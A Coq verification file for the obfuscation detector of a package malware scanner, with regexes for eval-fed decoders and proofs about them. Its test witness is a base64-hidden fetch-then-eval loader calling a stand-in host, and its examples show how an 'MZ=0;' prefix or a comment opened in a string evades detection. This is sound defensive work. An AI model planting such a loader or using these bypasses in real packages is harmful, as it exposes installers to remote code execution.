(* ===== verification/Obfuscation.v ===== *)
(** * Source obfuscation ([src/pkgward/analyze/obfuscation.py])

    Self-decoding packers (a decode primitive near an [eval]), custom radix
    alphabets, CJK and confusable identifiers.  The text is a list of code points;
    [astral_word] is the set of characters beyond U+FFFF that [\w] matches. *)
From stdpp Require Import sorting.
From S2P Require Import Prelude PyStr Text Regex RegexSyntax Findings Tree Binary Intel Score.
From Stdlib Require Import Ascii String Sorted.

Open Scope string_scope.
Open Scope list_scope.
Open Scope Z_scope.

Definition CATEGORY : string := "obfuscation".
Definition obf (rule : string) (sev : severity) (conf : confidence) (rel ev : string) : Finding := mkFinding rule CATEGORY sev conf rel None ev.

Definition _CODE_EXTENSIONS : list string := [".js"; ".mjs"; ".cjs"; ".jsx"; ".ts"; ".tsx"; ".py"].
(** The environment variables that override them are unset. *)
Definition MAX_FILE_SIZE : Z := 10 * 1024 * 1024.
Definition PACKER_MAX_FILE_SIZE : Z := 32 * 1024 * 1024.
Definition MIN_FILE_SIZE : Z := 64.
Definition _CHARCODE_EVAL_PROXIMITY : nat := 600.

(** ** [bytes.decode("utf-8", errors)] *)

Definition in_range (lo hi b : Z) : bool := (lo <=? b) && (b <=? hi).
(** The second bytes that may follow a lead byte of three or four. *)
Definition second3 (b b2 : Z) : bool := in_range (if b =? 224 then 160 else 128) (if b =? 237 then 159 else 191) b2.
Definition second4 (b b2 : Z) : bool := in_range (if b =? 240 then 144 else 128) (if b =? 244 then 143 else 191) b2.
Definition trail (b : Z) : bool := in_range 128 191 b.

(** An ill-formed sequence becomes [bad], up to the byte that makes it so. *)
Section Utf8.
Variable bad : list Z.
Fixpoint utf8 (l : list Z) : list Z :=
  match l with
  | [] => []
  | b :: l1 =>
      if b <? 128 then b :: utf8 l1
      else if in_range 194 223 b then
        match l1 with
        | b2 :: l2 => if trail b2 then (b - 192) * 64 + (b2 - 128) :: utf8 l2 else bad ++ utf8 l1
        | [] => bad
        end
      else if in_range 224 239 b then
        match l1 with
        | b2 :: l2 =>
            if second3 b b2 then
              match l2 with
              | b3 :: l3 => if trail b3 then ((b - 224) * 64 + (b2 - 128)) * 64 + (b3 - 128) :: utf8 l3 else bad ++ utf8 l2
              | [] => bad
              end
            else bad ++ utf8 l1
        | [] => bad
        end
      else if in_range 240 244 b then
        match l1 with
        | b2 :: l2 =>
            if second4 b b2 then
              match l2 with
              | b3 :: l3 =>
                  if trail b3 then
                    match l3 with
                    | b4 :: l4 =>
                        if trail b4 then (((b - 240) * 64 + (b2 - 128)) * 64 + (b3 - 128)) * 64 + (b4 - 128) :: utf8 l4 else bad ++ utf8 l3
                    | [] => bad
                    end
                  else bad ++ utf8 l2
              | [] => bad
              end
            else bad ++ utf8 l1
        | [] => bad
        end
      else bad ++ utf8 l1
  end.
End Utf8.
(** [errors="ignore"] and [errors="replace"]. *)
Definition utf8_ignore : list Z -> list Z := utf8 [].
Definition utf8_replace : list Z -> list Z := utf8 [65533].

Fixpoint newlines (l : list Z) : list Z :=
  match l with
  | [] => []
  | c :: l1 =>
      if c =? 13 then match l1 with d :: l2 => if d =? 10 then 10 :: newlines l2 else 10 :: newlines l1 | [] => [10] end
      else c :: newlines l1
  end.
(** [read_text(errors=...)]. *)
Definition text_of (data : string) : list Z := newlines (utf8_ignore (codes_of data)).
Definition text_replaced (data : string) : list Z := newlines (utf8_replace (codes_of data)).

Definition found_in (rx : regex) (text : list Z) : bool := bool_decide (is_Some (search_codes rx text)).
Definition piece (text : list Z) (a b : nat) : list Z := firstn (b - a) (skipn a text).
Definition group_in (text : list Z) (n : nat) (m : mtch) : list Z := match span_of n m with Some (a, b) => piece text a b | None => [] end.

(** [rx.sub(" ", text)]. *)
Fixpoint blank_from (text : list Z) (from : nat) (ms : list mtch) : list Z :=
  match ms with
  | [] => skipn from text
  | m :: ms' => piece text from (m_start m) ++ 32 :: blank_from text (m_end m) ms'
  end.
Definition blank (rx : regex) (text : list Z) : list Z := blank_from text 0 (finditer_codes rx text).

(** ** Self-decoding packers *)

Definition _JS_EXTENSIONS : list string := [".js"; ".mjs"; ".cjs"; ".jsx"; ".ts"; ".tsx"].
Definition _JS_EVAL : regex := compile plain ("\beval\s*\(|\bnew\s+Function\s*\(|\bFunction\s*\(\s*['\" +:+ Q +:+ "]").
Definition _CHARCODE_DECODE : regex := compile plain "\bString\.fromCharCode\b|\.charCodeAt\s*\(|(?:\d{1,4}\s*,\s*){40,}".
Definition _CRYPTO_DECRYPT : regex := compile plain "\bcreateDecipher(?:iv)?\s*\(".
Definition _FETCH_OBFUS_URL : regex := compile plain
  ("\bfetch\s*\(\s*(?:atob\s*\(|Buffer\.from\s*\([^,]+,\s*['\" +:+ Q +:+ "]base64)").
Definition _ROT_CIPHER_WRAPPER : regex := compile dotall
  ("\.replace\s*\(\s*/\[a-zA-Z\]/[gi]*\s*,\s*function\s*\([^)]*\)\s*\{" +:+ "[^}]*charCodeAt[^}]*%\s*26[^}]*\}").
Definition _BUILD_BUNDLE_DIR : regex := compile icase
  ("(?:^|/)(?:dist|build|out|static|assets|public|browser|vendor|vendors" +:+ "|_next|\.next|node_modules)/").
Definition _BUNDLE_HASH_NAME : regex := compile icase
  ("(?:^|/)(?:main|chunk|runtime|polyfills?|vendors?|index|app|bundle|styles?" +:+ "|common|scripts|[0-9]+)[.\-][A-Za-z0-9_]{6,}\.(?:m|c)?js$" +:+
   "|\.min\.(?:m|c)?js$").

Definition _is_build_bundle (rel : string) : bool := found _BUILD_BUNDLE_DIR rel || found _BUNDLE_HASH_NAME rel.

(** [bisect.bisect_left(xs, c)] on a sorted list. *)
Fixpoint bisect_left (xs : list nat) (c : nat) : nat :=
  match xs with x :: xs' => if (x <? c)%nat then S (bisect_left xs' c) else 0%nat | [] => 0%nat end.
Definition distance (a b : nat) : nat := (a - b) + (b - a).
Definition near (xs : list nat) (i c : nat) : bool :=
  match xs !! i with Some x => (distance x c <=? _CHARCODE_EVAL_PROXIMITY)%nat | None => false end.
Definition _feeds_eval (text : list Z) (decode_re : regex) : bool :=
  let eval_pos := map m_start (finditer_codes _JS_EVAL text) in
  existsb (fun cm => let c := m_start cm in let i := bisect_left eval_pos c in
    match i with O => false | S j => near eval_pos j c end || near eval_pos i c) (finditer_codes decode_re text).
Definition _charcode_feeds_eval (text : list Z) : bool := _feeds_eval text _CHARCODE_DECODE.
Definition _crypto_feeds_eval (text : list Z) : bool := _feeds_eval text _CRYPTO_DECRYPT.
Definition _remote_fetch_feeds_eval (text : list Z) : bool := _feeds_eval text _FETCH_OBFUS_URL.

(** ** Alphabets *)

Definition _ALPHABET_MIN_LEN : nat := 84.
Definition _ALPHABET_MAX_LEN : nat := 95.
Definition _STR_SQ : regex := compile plain "'((?:[^'\\\n]|\\.)*)'".
Definition _STR_DQ : regex := compile plain (Q +:+ "((?:[^" +:+ Q +:+ "\\\n]|\\.)*)" +:+ Q).
Definition _STR_BT : regex := compile dotall "`((?:[^`\\]|\\.)*)`".
Definition _BLOCK_COMMENT : regex := compile dotall "/\*.*?\*/".
Definition _LINE_COMMENT : regex := compile plain "(?://|#)[^\n]*".

Definition _is_alphabet (s : list Z) : bool :=
  let n := List.length s in
  if (n <? _ALPHABET_MIN_LEN)%nat || (_ALPHABET_MAX_LEN <? n)%nat then false
  else if existsb (fun c => (c <? 33) || (126 <? c)) s then false
  else (n - 1 <=? List.length (dedup s))%nat.
Definition _custom_alphabets (text : list Z) : list (list Z) :=
  dedup (flat_map (fun rx => bfilter _is_alphabet (map (group_in text 1) (finditer_codes rx text))) [_STR_SQ; _STR_DQ; _STR_BT]).

(** ** Identifiers *)

Definition _strip_strings_and_comments (text : list Z) : list Z :=
  blank _LINE_COMMENT (blank _STR_BT (blank _STR_DQ (blank _STR_SQ (blank _BLOCK_COMMENT text)))).

Definition cls_re (its : list item) : re := Cat (Set_ false its) Eps.
(** Hiragana to katakana, CJK extension A, CJK ideographs, half-width katakana. *)
Definition CJK : list item := [Rng 12352 12543; Rng 13312 19903; Rng 19968 40959; Rng 65382 65439].
Definition _CJK_RUN : regex := mkRegex plain (Cat (Rep true 1 None (Set_ false CJK)) Eps).
Definition _NONASCII_IDENT_THRESHOLD : nat := 8.
Definition _LATIN_ASCII : regex := compile plain "[A-Za-z]".
Definition _CYR_GREEK : regex := mkRegex plain (cls_re [Rng 880 1023; Rng 1024 1327]).
Definition _FULLWIDTH_LATIN : regex := mkRegex plain (cls_re [Rng 65313 65338; Rng 65345 65370]).
Definition _HOMOGLYPH_IDENT_THRESHOLD : nat := 1.

Definition _nonascii_identifier_count (text : list Z) : nat :=
  let code := _strip_strings_and_comments text in
  List.length (dedup (map (fun m => piece code (m_start m) (m_end m)) (finditer_codes _CJK_RUN code))).

Definition confusable (tok : list Z) : bool :=
  found_in _FULLWIDTH_LATIN tok || (found_in _LATIN_ASCII tok && found_in _CYR_GREEK tok).

Section Scan.
Variable astral_word : list item.

Definition IDENT_START : list item := [Rng 65 90; Rng 97 122; Rng 95 95; Rng 36 36; Rng 128 65535].
Definition IDENT_PART : list item := [Cls false CWord; Rng 36 36; Rng 128 65535] ++ astral_word.
Definition _IDENT_TOKEN : regex := mkRegex plain (Cat (Set_ false IDENT_START) (Cat (Rep true 0 None (Set_ false IDENT_PART)) Eps)).

Definition _homoglyph_identifier_count (text : list Z) : nat :=
  let code := _strip_strings_and_comments text in
  List.length (dedup (bfilter confusable (map (fun m => piece code (m_start m) (m_end m)) (finditer_codes _IDENT_TOKEN code)))).

(** ** [analyze_obfuscation] *)

Definition packer_findings (rel : string) (text : list Z) : list Finding :=
  if found_in _JS_EVAL text then
    (if _remote_fetch_feeds_eval text then
       [obf "obfuscation.remote_fetch_eval" SCritical CHigh rel
         "base64-hidden fetch URL feeding eval/Function — remote-code loader (response from a concealed C2 is executed)"] else []) ++
    (if _crypto_feeds_eval text then
       [obf "obfuscation.decrypt_then_exec" SHigh CHigh rel "runtime crypto-decrypt (createDecipheriv) feeding eval/Function"] else []) ++
    (if _charcode_feeds_eval text then
       if _is_build_bundle rel then
         [obf "obfuscation.charcode_eval" SLow CLow rel
           "char-code decode in a minified build bundle (fromCharCode / numeric array feeding eval/Function) — common in framework runtimes"]
       else [obf "obfuscation.charcode_eval" SHigh CHigh rel "char-code decode (fromCharCode / numeric array) feeding eval/Function"]
     else []) ++
    (if found_in _ROT_CIPHER_WRAPPER text then
       [obf "obfuscation.rot_cipher_eval" SHigh CHigh rel
         "ROT/Caesar cipher wrapper (replace on /[a-zA-Z]/ with charCodeAt modular arithmetic) feeding eval — runtime letter-rotation decode"] else [])
  else [].

Definition alphabet_findings (rel : string) (text : list Z) : list Finding :=
  let n := List.length (_custom_alphabets text) in
  let cjk := _nonascii_identifier_count text in
  let homoglyph := _homoglyph_identifier_count text in
  (if (2 <=? n)%nat then
     [obf "obfuscation.rotating_alphabet_codec" SHigh CHigh rel
       (show (Z.of_nat n) +:+ " distinct custom radix alphabets (base85/basE91 packer)")]
   else if (n =? 1)%nat then
     [obf "obfuscation.custom_alphabet_codec" SLow CMedium rel "custom radix alphabet literal (base85/basE91-style)"] else []) ++
  (if (_NONASCII_IDENT_THRESHOLD <=? cjk)%nat then
     [obf "obfuscation.nonascii_identifiers" SMedium CMedium rel (show (Z.of_nat cjk) +:+ " distinct non-ASCII (CJK) identifiers in source")] else []) ++
  (if (_HOMOGLYPH_IDENT_THRESHOLD <=? homoglyph)%nat then
     [obf "obfuscation.homoglyph_identifiers" SMedium CMedium rel
       (show (Z.of_nat homoglyph) +:+ " confusable (Latin+Cyrillic/Greek or fullwidth) identifier(s) in source")] else []).

Definition code_file (f : tree_file) : bool := str_in (suffix_lower f) _CODE_EXTENSIONS.
Definition is_js (f : tree_file) : bool := str_in (suffix_lower f) _JS_EXTENSIONS.
Definition do_alphabets (f : tree_file) : bool := match tf_size f with Some n => n <=? MAX_FILE_SIZE | None => false end.
Definition do_packer (f : tree_file) : bool := is_js f && match tf_size f with Some n => n <=? PACKER_MAX_FILE_SIZE | None => false end.
Definition examined (f : tree_file) : bool :=
  code_file f && match tf_size f with Some n => negb (n <? MIN_FILE_SIZE) | None => false end &&
  negb (looks_like_compiled_binary f) && (do_alphabets f || do_packer f).

Definition scan_obfuscation (f : tree_file) (data : string) : list Finding :=
  let text := text_of data in
  (if do_packer f then packer_findings (real_path f) text else []) ++
  (if do_alphabets f then alphabet_findings (real_path f) text else []).
Definition analyze_obfuscation (changed : option (list string)) (tree : list tree_file) : list Finding :=
  each_file examined changed scan_obfuscation tree.

End Scan.

(** ** Proximity: the nearest sink decides *)

Lemma bisect_spec xs c : StronglySorted le xs -> exists lo hi, xs = lo ++ hi /\ List.length lo = bisect_left xs c /\
  Forall (fun x => x < c)%nat lo /\ Forall (fun x => c <= x)%nat hi.
Proof.
  induction 1 as [|x xs Hs IH Hx]; [by exists [], []|]. cbn [bisect_left]. destruct (Nat.ltb_spec x c) as [Hlt|Hge].
  - destruct IH as (lo & hi & -> & Hl & H1 & H2). exists (x :: lo), hi. cbn. split_and!; [done|lia|by constructor|done].
  - exists [], (x :: xs). split_and!; [done|done|constructor|]. constructor; [done|]. eapply Forall_impl; [exact Hx|]. cbn. lia.
Qed.

Lemma starts_sorted r text : StronglySorted le (map m_start (finditer_codes r text)).
Proof.
  unfold finditer_codes. generalize (2 * List.length text + 2)%nat false (start text). intros n b c.
  revert b c. induction n as [|n IH]; intros b c; cbn [scan]; [constructor|].
  destruct (search_from r b c) as [[m c']|] eqn:E; [|constructor]. cbn [map]. constructor; [apply IH|].
  apply Forall_forall. intros x (m' & -> & Hm)%list_elem_of_fmap. pose proof (scan_apart r (S n) b c) as Ha. cbn [scan] in Ha. rewrite E in Ha.
  apply StronglySorted_inv in Ha as [_ Ha]. rewrite Forall_forall in Ha. specialize (Ha m' Hm). unfold apart in Ha.
  apply search_from_Some in E as (d & (_ & Hm' & _) & Hs & He & _). apply matches_reach, reach_pos in Hm'. lia.
Qed.

Lemma near_spec xs c : StronglySorted le xs ->
  (match bisect_left xs c with O => false | S j => near xs j c end || near xs (bisect_left xs c) c) = true <->
  exists x, x ∈ xs /\ (distance x c <= _CHARCODE_EVAL_PROXIMITY)%nat.
Proof.
  intros Hs. split.
  - assert (forall i, near xs i c = true -> exists x, x ∈ xs /\ (distance x c <= _CHARCODE_EVAL_PROXIMITY)%nat) as H.
    { intros i. unfold near. destruct (xs !! i) as [x|] eqn:E; [|done]. intros H%Nat.leb_le. exists x. split; [by eapply list_elem_of_lookup_2|done]. }
    intros [Hn|Hn]%orb_true_iff; [|by eapply H]. destruct (bisect_left xs c); [done|by eapply H].
  - destruct (bisect_spec xs c Hs) as (lo & hi & -> & Hl & H1 & H2). rewrite <- Hl. intros (x & [Hx|Hx]%elem_of_app & Hd); apply orb_true_iff.
    + left. destruct lo as [|y lo _] using rev_ind; [by apply elem_of_nil in Hx|]. rewrite length_app, Nat.add_1_r. unfold near.
      rewrite <- app_assoc, lookup_app_r, Nat.sub_diag by lia. cbn. apply Nat.leb_le. rewrite Forall_app in H1. destruct H1 as [H1 Hy]. inversion_clear Hy.
      assert (x <= y)%nat.
      { apply elem_of_app in Hx as [Hx|Hx]; [|by apply list_elem_of_singleton in Hx as ->]. rewrite <- app_assoc in Hs.
        eapply StronglySorted_app_1_elem_of in Hs; [exact Hs|done|by left]. }
      unfold distance in *. lia.
    + right. destruct hi as [|y hi]; [by apply elem_of_nil in Hx|]. unfold near. rewrite lookup_app_r, Nat.sub_diag by lia. cbn. apply Nat.leb_le.
      assert (c <= y)%nat by by inversion_clear H2.
      assert (y <= x)%nat.
      { apply elem_of_cons in Hx as [->|Hx]; [done|]. apply StronglySorted_app_1_r in Hs. apply StronglySorted_inv in Hs as [_ Hz].
        rewrite Forall_forall in Hz. by apply Hz. }
      unfold distance in *. lia.
Qed.

(** A sink and a decode primitive close to each other. *)
Definition feeds (text : list Z) (decode_re : regex) : Prop :=
  exists e d, e ∈ finditer_codes _JS_EVAL text /\ d ∈ finditer_codes decode_re text /\
    (distance (m_start e) (m_start d) <= _CHARCODE_EVAL_PROXIMITY)%nat.

Lemma feeds_eval_true text decode_re : _feeds_eval text decode_re = true <-> feeds text decode_re.
Proof.
  unfold _feeds_eval, feeds. rewrite existsb_true. split.
  - intros (d & Hd & H). cbn zeta in H. apply near_spec in H as (x & (e & -> & He)%list_elem_of_fmap & Hx); [by exists e, d|apply starts_sorted].
  - intros (e & d & He & Hd & H). exists d. split; [done|]. apply near_spec; [apply starts_sorted|]. exists (m_start e). split; [|done].
    apply list_elem_of_fmap. by exists e.
Qed.

Lemma feeds_found text decode_re : feeds text decode_re -> found_in _JS_EVAL text = true.
Proof.
  intros (e & _ & He & _). unfold found_in. apply bool_decide_eq_true. unfold search_codes, finditer_codes in *.
  destruct (2 * List.length text + 2)%nat; [by apply elem_of_nil in He|]. cbn [scan] in He.
  destruct (search_from _JS_EVAL false (start text)) as [[m c]|]; [by eexists|by apply elem_of_nil in He].
Qed.

(** ** What is reported *)

Definition SIGNATURES : list signature :=
  [("obfuscation.remote_fetch_eval", SCritical, CHigh); ("obfuscation.decrypt_then_exec", SHigh, CHigh); ("obfuscation.charcode_eval", SLow, CLow);
   ("obfuscation.charcode_eval", SHigh, CHigh); ("obfuscation.rot_cipher_eval", SHigh, CHigh); ("obfuscation.rotating_alphabet_codec", SHigh, CHigh);
   ("obfuscation.custom_alphabet_codec", SLow, CMedium); ("obfuscation.nonascii_identifiers", SMedium, CMedium);
   ("obfuscation.homoglyph_identifiers", SMedium, CMedium)].

Lemma obfuscation_signed astral_word changed tree : Forall (signed_by CATEGORY SIGNATURES) (analyze_obfuscation astral_word changed tree).
Proof. unfold analyze_obfuscation, scan_obfuscation, packer_findings, alphabet_findings. sign_all. Qed.

Lemma obf_patterns_compiled : forallb compiled
  [_JS_EVAL; _CHARCODE_DECODE; _CRYPTO_DECRYPT; _FETCH_OBFUS_URL; _ROT_CIPHER_WRAPPER; _BUILD_BUNDLE_DIR; _BUNDLE_HASH_NAME;
   _STR_SQ; _STR_DQ; _STR_BT; _BLOCK_COMMENT; _LINE_COMMENT; _LATIN_ASCII] = true.
Proof. by vm_compute. Qed.

(** ASCII text is read as it is. *)
Lemma utf8_ascii l : Forall (fun b => b < 128) l -> utf8_ignore l = l.
Proof.
  induction 1 as [|b l Hb _ IH]; [done|]. unfold utf8_ignore in *. cbn [utf8]. apply Z.ltb_lt in Hb. by rewrite Hb, IH.
Qed.

(** ** Properties *)

(** Looking at the two nearest sinks is as good as looking at all.  The bisection over
    the sorted positions of [eval] decides exactly whether some decode primitive of the text
    stands within 600 characters of some [eval], on either side. *)
Theorem proximity_exact text decode_re :
  _feeds_eval text decode_re = true <->
  exists e d, e ∈ finditer_codes _JS_EVAL text /\ d ∈ finditer_codes decode_re text /\
    (m_start e <= m_start d + 600)%nat /\ (m_start d <= m_start e + 600)%nat.
Proof.
  rewrite feeds_eval_true. unfold feeds, distance, _CHARCODE_EVAL_PROXIMITY.
  split; intros (e & d & He & Hd & H); exists e, d; split_and!; try done; lia.
Qed.

(** A concealed remote loader convicts.  A changed, readable JavaScript file of 64 bytes
    to 32 MB that is no native image, in which a base64-hidden [fetch] stands within
    600 characters of an [eval], makes the package malicious, in a build bundle as well. *)
Theorem hidden_fetch_convicts pack astral_word changed tree fs r f data n
  (Hfs : forall x, x ∈ analyze_obfuscation astral_word changed tree -> x ∈ fs)
  (Hf : f ∈ tree) (Hjs : is_js f = true) (Hu : unchanged_file changed f = false) (Hd : tf_data f = Some data)
  (Hz : tf_size f = Some n) (Hn : 64 <= n <= PACKER_MAX_FILE_SIZE) (Hb : looks_like_compiled_binary f = false)
  (He : feeds (text_of data) _FETCH_OBFUS_URL) :
  sr_verdict (score_and_verdict pack fs r) = VMalicious.
Proof.
  apply (critical_convicts pack fs r (obf "obfuscation.remote_fetch_eval" SCritical CHigh (real_path f)
    "base64-hidden fetch URL feeding eval/Function — remote-code loader (response from a concealed C2 is executed)")); [|reflexivity|reflexivity].
  assert (do_packer f = true) as Hp by (unfold do_packer; rewrite Hjs, Hz; cbn [andb]; apply Z.leb_le; lia).
  apply Hfs, each_file_in. exists f, data. split_and!; try done.
  - unfold examined. rewrite Hp, Hz, Hb, orb_true_r. replace (n <? MIN_FILE_SIZE) with false by (symmetry; apply Z.ltb_ge; unfold MIN_FILE_SIZE; lia).
    cbn [negb andb]. rewrite !andb_true_r. unfold is_js, code_file in *. apply str_in_true in Hjs. apply str_in_true. unfold _CODE_EXTENSIONS, _JS_EXTENSIONS in *. set_solver.
  - unfold scan_obfuscation. rewrite Hp. apply elem_of_app. left. unfold packer_findings, _remote_fetch_feeds_eval.
    rewrite (feeds_found _ _ He). apply feeds_eval_true in He. rewrite He. apply elem_of_app. left. by left.
Qed.

(** ** Concrete files *)

Definition ex_js (parts : list string) (data : string) : tree_file := mkTreeFile parts (Some (Z.of_nat (len data))) (Some data).
Definition ex_obf (data : string) : list (string * severity) :=
  map (fun g => (rule_id g, f_severity g)) (analyze_obfuscation [] None [ex_js ["package"; "index.js"] data]).

Definition loader : string := "fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw==')).then(d=>eval(d.content));".
Lemma hidden_fetch_convicts_witness :
  sr_verdict (score_and_verdict ex_pack (analyze_obfuscation [] None [ex_js ["package"; "index.js"] loader]) None) = VMalicious.
Proof.
  apply (hidden_fetch_convicts ex_pack [] None [ex_js ["package"; "index.js"] loader] (analyze_obfuscation [] None [ex_js ["package"; "index.js"] loader]) None
    (ex_js ["package"; "index.js"] loader) loader 73 (fun x H => H));
    [by left|by vm_compute|reflexivity|reflexivity|by vm_compute|unfold PACKER_MAX_FILE_SIZE; lia|by vm_compute|].
  apply feeds_eval_true. by vm_compute.
Defined.

(** The same loader behind two letters is taken for a PE image and not read. *)
Example mz_loader : ex_obf loader = [("obfuscation.remote_fetch_eval", SCritical)] /\ ex_obf ("MZ=0;" +:+ loader) = [].
Proof. by vm_compute. Qed.

(** A Cyrillic letter in a Latin name counts, a wholly Cyrillic name does not, and neither
    does either inside a string or a comment. *)
Definition pad : string := "                                                                ".
Example homoglyph_ex : map (fun s => ex_obf (s +:+ pad))
  ["rеquests.post(url)"; "привет(url)"; "x('rеquests') // rеquests"] =
  [[("obfuscation.homoglyph_identifiers", SMedium)]; []; []].
Proof. by vm_compute. Qed.

(** Block comments go first: one that opens inside a string hides the code up to the
    next one that closes. *)
Example comment_in_string : ex_obf ("a = '/*'; rеquests.post(url); b = '*/';" +:+ pad) = [].
Proof. by vm_compute. Qed.
